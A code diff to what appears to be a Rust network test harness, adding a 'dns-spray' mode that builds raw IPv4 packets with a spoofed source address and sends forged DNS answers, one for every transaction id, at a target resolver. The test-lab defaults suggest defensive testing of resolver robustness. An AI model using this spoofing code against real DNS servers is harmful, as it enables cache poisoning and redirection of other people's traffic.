@@ -45,6 +45,10 @@ enum Mode {
     /// datagrams that are not DNS queries, then `count` (at most 65,536) well-formed queries
     /// with distinct ids.
     DnsFlood,
+    /// A pod forging DNS answers (IPv4, a raw socket): `count` answers, one per transaction
+    /// id from 0, to --dns-server (the victim's address and port) from --spoof-from, with
+    /// --spoof-rcode, carrying the question --spoof-name (A, IN), or none when it is empty.
+    DnsSpray,
 }
 
 #[derive(Parser, Debug)]
@@ -123,6 +127,15 @@ struct Args {
     /// The NFQUEUE number nfqueue-hold reads.
     #[arg(long, default_value_t = 0)]
     queue: u16,
+    /// dns-spray: the forged answers' source (the address a query went to, or any other).
+    #[arg(long, default_value = "127.53.0.1:53")]
+    spoof_from: std::net::SocketAddr,
+    /// dns-spray: the forged answers' question name ("": no question section at all).
+    #[arg(long, default_value = "evil.test")]
+    spoof_name: String,
+    /// dns-spray: the forged answers' response code.
+    #[arg(long, default_value_t = 0)]
+    spoof_rcode: u8,
 }
 
 #[derive(serde::Serialize, Default)]
@@ -200,6 +213,9 @@ fn run(args: &Args) -> anyhow::Result<()> {
     }
     if args.mode == Mode::DnsFlood {
         return dns_flood(args.dns_server, args.count);
+    }
+    if args.mode == Mode::DnsSpray {
+        return dns_spray(args);
     }
     if args.mode == Mode::NfqueueHold {
         return nfqueue_hold(args.queue, args.count);
@@ -400,6 +416,84 @@ fn dns_flood(server: std::net::SocketAddr, count: u32) -> anyhow::Result<()> {
     for i in 0..count.min(65_536) {
         query[..2].copy_from_slice(&(i as u16).to_be_bytes());
         report.tally(socket.send(&query).is_ok());
+    }
+    report.timed(start)
+}
+
+/// Forged answers through a raw socket (the kernel fills in the IP checksum and length; the
+/// UDP checksum is left 0, which IPv4 allows).
+fn dns_spray(args: &Args) -> anyhow::Result<()> {
+    use std::{net::SocketAddr, os::fd::FromRawFd as _};
+    let (SocketAddr::V4(to), SocketAddr::V4(from)) = (args.dns_server, args.spoof_from) else {
+        bail!("dns-spray forges IPv4 only");
+    };
+    // SAFETY: plain socket(2); the fd is owned below.
+    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
+    if fd < 0 {
+        return Err(std::io::Error::last_os_error()).context("opening a raw socket (root)");
+    }
+    // SAFETY: a fresh descriptor this function owns.
+    let fd = unsafe { std::os::fd::OwnedFd::from_raw_fd(fd) };
+    let mut dns = vec![
+        0,
+        0,
+        0x81,
+        0x80 | args.spoof_rcode & 0x0f,
+        0,
+        0,
+        0,
+        0,
+        0,
+        0,
+        0,
+        0,
+    ];
+    if !args.spoof_name.is_empty() {
+        dns[5] = 1;
+        for label in args.spoof_name.split('.') {
+            dns.push(label.len() as u8);
+            dns.extend_from_slice(label.as_bytes());
+        }
+        dns.extend_from_slice(&[0, 0, 1, 0, 1]);
+    }
+    let udp_len = 8 + dns.len();
+    let mut packet = vec![0u8; 20 + udp_len];
+    packet[0] = 0x45;
+    packet[8] = 64;
+    packet[9] = 17;
+    packet[12..16].copy_from_slice(&from.ip().octets());
+    packet[16..20].copy_from_slice(&to.ip().octets());
+    packet[20..22].copy_from_slice(&from.port().to_be_bytes());
+    packet[22..24].copy_from_slice(&to.port().to_be_bytes());
+    packet[24..26].copy_from_slice(&(udp_len as u16).to_be_bytes());
+    packet[28..].copy_from_slice(&dns);
+    let addr = libc::sockaddr_in {
+        sin_family: libc::AF_INET as libc::sa_family_t,
+        sin_port: 0,
+        sin_addr: libc::in_addr {
+            s_addr: u32::from_ne_bytes(to.ip().octets()),
+        },
+        sin_zero: [0; 8],
+    };
+    let mut report = Report {
+        pid: node_pid(),
+        ..Default::default()
+    };
+    let start = std::time::Instant::now();
+    for id in 0..args.count.min(65_536) {
+        packet[28..30].copy_from_slice(&(id as u16).to_be_bytes());
+        // SAFETY: sendto with a buffer and address that live across the call.
+        let sent = unsafe {
+            libc::sendto(
+                std::os::fd::AsRawFd::as_raw_fd(&fd),
+                packet.as_ptr() as *const _,
+                packet.len(),
+                0,
+                &addr as *const libc::sockaddr_in as *const libc::sockaddr,
+                std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
+            )
+        };
+        report.tally(sent >= 0);
     }
     report.timed(start)
 }
@@ -707,6 +801,7 @@ fn create(
             | Mode::DnsServer
             | Mode::DnsClient
             | Mode::DnsFlood
+            | Mode::DnsSpray
             | Mode::NfqueueHold => {
                 break;
             } // run elsewhere
